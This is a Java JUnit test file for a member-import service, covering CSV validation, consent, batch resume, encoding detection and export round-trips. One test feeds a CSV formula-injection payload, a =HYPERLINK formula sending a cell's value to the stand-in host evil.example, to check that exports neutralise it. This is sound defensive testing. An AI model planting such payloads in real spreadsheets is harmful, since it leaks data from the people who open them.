package org.branchwork.node.service;

import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import org.branchwork.node.domain.ImportBasis;
import org.branchwork.node.domain.ImportField;
import org.branchwork.node.domain.ImportProblem;
import org.branchwork.node.domain.MemberId;
import org.branchwork.node.domain.MemberQuery;
import org.branchwork.node.domain.Role;
import org.branchwork.node.storage.AuditStore;
import org.branchwork.node.storage.MemberImportStore;
import org.branchwork.node.storage.MemberStore;
import org.branchwork.node.storage.SessionStore;
import org.branchwork.node.storage.Transactions;
import org.branchwork.node.testing.MemoryDatabase;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class MemberImportServiceTest {

    private static final Acting ORGANISER = Acting.apiToken();

    @RegisterExtension
    final MemoryDatabase db = new MemoryDatabase();

    private final Transactions tx = db.transactions();
    private final Clock clock = Clock.systemUTC();
    private final MemberImportStore store = new MemberImportStore();
    private final MemberStore memberStore = new MemberStore();
    private final MemberService members = new MemberService(
            tx,
            memberStore,
            new SessionService(tx, new SessionStore(), memberStore, new SecureRandom(), clock),
            new AuditLog(tx, new AuditStore(), clock),
            clock);
    private final MemberExport export = new MemberExport(tx, memberStore, new AuditLog(tx, new AuditStore(), clock));
    private final MemberImportService imports =
            new MemberImportService(tx, store, members, new AuditLog(tx, new AuditStore(), clock), clock);

    @Test
    void everyProblemIsReportedByLineAndColumnAndNothingIsAddedBeforeTheGo() {
        MemberImportService.Status s = imports.validate(ORGANISER, "list.csv", """
                name,email,postcode,phone,contact_consent,tags
                Sam Okafor,sam@example.org,M1 1AE,,yes,canvasser
                ,nobody@example.org,M1 1AE,,yes,
                Dup,sam@example.org,M1 1AE,,maybe,
                """);

        assertThat(s.totalRows()).isEqualTo(3);
        assertThat(s.validRows()).isEqualTo(1);
        assertThat(s.problems())
                .extracting(ImportProblem::line, ImportProblem::column)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(3, "name"),
                        org.assertj.core.groups.Tuple.tuple(4, "contact_consent"),
                        org.assertj.core.groups.Tuple.tuple(4, "email"));
        assertThat(total()).as("validation adds nobody").isZero();
    }

    @Test
    void rowsImportedWithoutAStatedBasisAreNotContactedWhateverTheirConsentColumnSays() throws Exception {
        long id = imports.validate(ORGANISER, "stall.csv", """
                name,email,postcode,phone,contact_consent,tags
                Sam Okafor,sam@example.org,M1 1AE,,yes,
                """).id();
        assertThat(imports.start(ORGANISER, id, ImportBasis.NONE)).isTrue();
        awaitDone(id);
        var listed = members.search(ORGANISER, new MemberQuery("sam", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
                .rows();
        assertThat(listed).hasSize(1);
        var sam = listed.getFirst().member();
        assertThat(sam.contactConsent()).isFalse();
        assertThat(members.consents(sam.id())).containsEntry(org.branchwork.node.domain.Consent.Purpose.BRANCH, false);
        assertThat(members.consentHistory(sam.id()))
                .as("nothing granted, so nothing to record")
                .isEmpty();
    }

    @Test
    void everyExportedCellThatASpreadsheetWouldRunIsWrittenAsText() throws Exception {
        long id = imports.validate(ORGANISER, "hostile.csv", """
                name,email,postcode,phone,contact_consent,tags
                "=HYPERLINK(""https://evil.example?""&B2,""x"")",=cmd@y.io,M1 1AE,+44 161 496 0000,yes,
                " -2+3",plain@example.org,M1 1AE,,yes,
                """).id();
        assertThat(imports.start(ORGANISER, id, ImportBasis.COLUMN)).isTrue();
        awaitDone(id);
        java.io.StringWriter out = new java.io.StringWriter();
        export.exportCsv(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10), out);

        var records = org.apache.commons.csv.CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new java.io.StringReader(out.toString().substring(1)))
                .getRecords();
        assertThat(records).hasSize(2);
        var hostile = records.stream()
                .filter(r -> r.get("email").contains("cmd"))
                .findFirst()
                .orElseThrow();
        assertThat(hostile.get("name")).startsWith("'=HYPERLINK(");
        assertThat(hostile.get("email")).isEqualTo("'=cmd@y.io");
        assertThat(hostile.get("phone")).isEqualTo("'+44 161 496 0000");
        assertThat(records.stream()
                        .filter(r -> r.get("email").equals("plain@example.org"))
                        .findFirst()
                        .orElseThrow()
                        .get("name"))
                .startsWith("'");
        for (var record : records) {
            for (String cell : record) {
                assertThat(cell.stripLeading())
                        .as(cell)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("@")
                        .doesNotStartWith("-");
            }
        }
    }

    @Test
    void anImportInterruptedByARestartResumesAfterItsLastCommittedBatch() throws Exception {
        int rows = MemberImportService.BATCH * 2 + 7;
        StringBuilder csv = new StringBuilder("name,email,postcode\n");
        for (int i = 0; i < rows; i++) {
            csv.append("Member ").append(i).append(",m").append(i).append("@example.org,SK1 3XE\n");
        }
        long id = imports.validate(ORGANISER, "big.csv", csv.toString()).id();
        // As if the node stopped after the first batch: state running, one batch committed.
        tx.inTransaction(c -> {
            store.transition(c, id, "validated", "running");
            var first = store.rowsAfter(c, id, 0, MemberImportService.BATCH);
            store.progress(
                    c,
                    id,
                    members.insertBatch(c, first, ImportBasis.COLUMN),
                    0,
                    first.get(first.size() - 1).line());
            return null;
        });
        assertThat(total()).isEqualTo(MemberImportService.BATCH);

        imports.resumeInterrupted();

        MemberImportService.Status done = awaitDone(id);
        assertThat(done.doneRows()).isEqualTo(rows);
        assertThat(done.skippedRows()).isZero();
        assertThat(total()).as("every row once, none twice").isEqualTo(rows);
        assertThat(rowsLeft(id)).as("imported rows are forgotten").isEmpty();
    }

    @Test
    void aDiscardedImportForgetsItsRowsAndCannotBeStarted() {
        long id = imports.validate(ORGANISER, "list.csv", "name,email,postcode\nSam,sam@example.org,M1 1AE\n")
                .id();

        assertThat(imports.discard(ORGANISER, id)).isTrue();

        assertThat(imports.start(ORGANISER, id, ImportBasis.COLUMN)).isFalse();
        assertThat(rowsLeft(id)).isEmpty();
        assertThat(total()).isZero();
    }

    @Test
    void aMemberCannotImport() {
        assertThatThrownBy(() ->
                        imports.validate(new Acting(new MemberId(5), Role.MEMBER), "x.csv", "name,email,postcode\n"))
                .isInstanceOf(NotAllowed.class);
    }

    @Test
    void aWindows1252SemicolonFileWithOtherHeadersWaitsForItsColumnsThenImportsWithTheNamesJoined() throws Exception {
        byte[] file = """
                First name;Last name;Email Address;Post Code;Ward;Tags
                René;Søndergård;rene@example.org;sk1 3xe;Heaton;café, Wahlkreis-Süd
                Zoë;Ó Briain;zoe@example.org;M1 1AE;Central;bénévole
                """.getBytes(java.nio.charset.Charset.forName("windows-1252"));

        var uploaded = imports.upload(ORGANISER, "excel.csv", file);

        assertThat(uploaded).isInstanceOf(MemberImportService.Uploaded.NeedsColumns.class);
        long id = ((MemberImportService.Uploaded.NeedsColumns) uploaded).id();
        var step = imports.columns(ORGANISER, id).orElseThrow();
        assertThat(step.encoding()).isEqualTo("Windows-1252");
        assertThat(step.delimiter()).isEqualTo("semicolons");
        assertThat(step.headers())
                .containsExactly("First name", "Last name", "Email Address", "Post Code", "Ward", "Tags");
        assertThat(step.examples()).startsWith("René", "Søndergård");
        assertThat(step.mapping().fields())
                .containsExactly(
                        ImportField.FIRST_NAME,
                        ImportField.LAST_NAME,
                        ImportField.EMAIL,
                        ImportField.POSTCODE,
                        ImportField.IGNORE,
                        ImportField.TAGS);
        assertThat(total()).isZero();

        var refused = imports.mapColumns(
                ORGANISER,
                id,
                List.of(
                        ImportField.FIRST_NAME,
                        ImportField.LAST_NAME,
                        ImportField.IGNORE,
                        ImportField.POSTCODE,
                        ImportField.IGNORE,
                        ImportField.TAGS));
        assertThat(refused).isInstanceOf(MemberImportService.Mapped.Invalid.class);
        assertThat(((MemberImportService.Mapped.Invalid) refused)
                        .columns()
                        .mapping()
                        .fields())
                .as("the choices are kept")
                .contains(ImportField.IGNORE, org.assertj.core.data.Index.atIndex(2));

        var mapped = imports.mapColumns(ORGANISER, id, step.mapping().fields());
        assertThat(mapped).isInstanceOf(MemberImportService.Mapped.Checked.class);
        MemberImportService.Status checked = ((MemberImportService.Mapped.Checked) mapped).status();
        assertThat(checked.problems()).isEmpty();
        assertThat(checked.validRows()).isEqualTo(2);
        assertThat(imports.columns(ORGANISER, id))
                .as("the file is forgotten once checked")
                .isEmpty();
        assertThat(imports.start(ORGANISER, id, ImportBasis.COLUMN)).isTrue();
        awaitDone(id);

        var rows = members.search(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NAME, 1, 10))
                .rows();
        assertThat(rows).extracting(r -> r.member().displayName()).containsExactly("René Søndergård", "Zoë Ó Briain");
        assertThat(rows.get(0).tags()).containsExactlyInAnyOrder("café", "wahlkreis-süd");
    }

    @Test
    void aFileWhoseHeadersAreKnownIsCheckedAtOnceAndAnUnreadableOneIsRefused() {
        var uploaded = imports.upload(
                ORGANISER,
                "plain.csv",
                "name\temail\tpostcode\nŁukasz\tl@example.org\tM1 1AE\n".getBytes(StandardCharsets.UTF_8));
        assertThat(uploaded).isInstanceOf(MemberImportService.Uploaded.Checked.class);
        assertThat(((MemberImportService.Uploaded.Checked) uploaded).status().validRows())
                .isEqualTo(1);

        assertThat(imports.upload(ORGANISER, "book.xlsx", new byte[] {'P', 'K', 3, 4, 0}))
                .isInstanceOf(MemberImportService.Uploaded.Refused.class);
        assertThat(imports.upload(ORGANISER, "empty.csv", "\n\n".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(MemberImportService.Uploaded.Refused.class);
    }

    @Test
    void reimportingTheNodesOwnExportGivesNoProblemsEveryoneIsAMemberAlready() throws Exception {
        // The admin set up the node without a postcode or phone: an export row no import would accept.
        tx.inTransaction(c -> memberStore.insert(
                c,
                new org.branchwork.node.domain.MemberDetails("Ada Admin", "ada@example.org", "", "", false),
                null,
                Role.ADMIN,
                "setup",
                clock.instant(),
                clock.instant()));
        long id = imports.validate(ORGANISER, "list.csv", """
                name,email,postcode,phone,contact_consent,tags
                Zoë Ó Briain,zoe@example.org,M1 1AE,+44 161 496 0000,yes,"café,志愿者"
                "=Łukasz",lukasz@example.org,SK1 3XE,,no,
                """).id();
        imports.start(ORGANISER, id, ImportBasis.COLUMN);
        awaitDone(id);
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        try (var out = new java.io.OutputStreamWriter(bytes, StandardCharsets.UTF_8)) {
            export.exportCsv(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10), out);
        }
        assertThat(bytes.toByteArray()).startsWith(0xEF, 0xBB, 0xBF);

        var uploaded = imports.upload(ORGANISER, "members.csv", bytes.toByteArray());

        assertThat(uploaded)
                .as("the export's own headers need no mapping step")
                .isInstanceOf(MemberImportService.Uploaded.Checked.class);
        MemberImportService.Status again = ((MemberImportService.Uploaded.Checked) uploaded).status();
        assertThat(again.problems()).isEmpty();
        assertThat(again.totalRows()).isEqualTo(3);
        assertThat(again.knownRows()).isEqualTo(3);
        assertThat(again.validRows()).isZero();

        // And into an empty node the same export adds its members unchanged, phone and formula-like name too.
        tx.inTransaction(c -> {
            try (var s = c.createStatement()) {
                s.executeUpdate("DELETE FROM member WHERE email <> 'ada@example.org'");
            }
            return null;
        });
        long fresh = ((MemberImportService.Uploaded.Checked)
                        imports.upload(ORGANISER, "members.csv", bytes.toByteArray()))
                .status()
                .id();
        assertThat(imports.status(ORGANISER, fresh).orElseThrow().problemCount())
                .isZero();
        imports.start(ORGANISER, fresh, ImportBasis.COLUMN);
        awaitDone(fresh);
        var zoe = members.search(ORGANISER, new MemberQuery("zoe", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
                .rows()
                .get(0);
        assertThat(zoe.member().displayName()).isEqualTo("Zoë Ó Briain");
        assertThat(zoe.member().phone()).isEqualTo("+44 161 496 0000");
        assertThat(zoe.tags()).containsExactlyInAnyOrder("café", "志愿者");
        assertThat(members.search(ORGANISER, new MemberQuery("lukasz", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
                        .rows()
                        .get(0)
                        .member()
                        .displayName())
                .isEqualTo("=Łukasz");
    }

    private java.util.List<org.branchwork.node.domain.ImportRow> rowsLeft(long id) {
        return tx.inTransaction(c -> store.rowsAfter(c, id, 0, 10));
    }

    private long total() {
        return members.search(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
                .total();
    }

    private MemberImportService.Status awaitDone(long id) throws InterruptedException {
        long until = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        while (System.nanoTime() < until) {
            MemberImportService.Status s = imports.status(ORGANISER, id).orElseThrow();
            if (s.state().equals("done")) {
                return s;
            }
            Thread.sleep(20);
        }
        throw new AssertionError("the import did not finish");
    }
}
